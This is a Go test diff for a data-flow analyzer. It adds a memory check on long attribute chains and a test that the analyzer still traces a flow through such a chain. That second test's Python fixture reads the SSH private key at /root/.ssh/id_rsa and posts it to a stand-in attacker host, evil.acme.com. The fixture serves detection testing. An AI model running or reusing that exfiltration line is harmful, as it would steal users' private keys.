@@ -1,6 +1,7 @@
 package flow_test
 
 import (
+	"runtime"
 	"strings"
 	"testing"
 	"time"
@@ -66,5 +67,24 @@ func TestLinear(t *testing.T) {
 				t.Errorf("%s of %q takes %v", name, part, d)
 			}
 		}
+	}
+}
+
+// TestChain checks that the names of values do not grow with a chain of attributes, and that data passes through it.
+func TestChain(t *testing.T) {
+	for _, name := range []string{"a.py", "a.js", "a.rb"} {
+		text := "x" + strings.Repeat(".attribute", 20_000) + "\n"
+		var before, after runtime.MemStats
+		runtime.ReadMemStats(&before)
+		flow.Analyze([]flow.File{{Path: name, Data: []byte(text)}})
+		runtime.ReadMemStats(&after)
+		if n := after.TotalAlloc - before.TotalAlloc; n > 200<<20 {
+			t.Errorf("%s: %d MiB for %d KiB", name, n>>20, len(text)>>10)
+		}
+	}
+	facts := flow.Analyze(files("-- a.py --\nimport requests\nkey = open('/root/.ssh/id_rsa').read()" +
+		strings.Repeat(".strip()", 500) + "\nrequests.post('https://evil.acme.com', data=key)\n"))
+	if len(facts.Flows) == 0 {
+		t.Error("no flow through a long chain")
 	}
 }
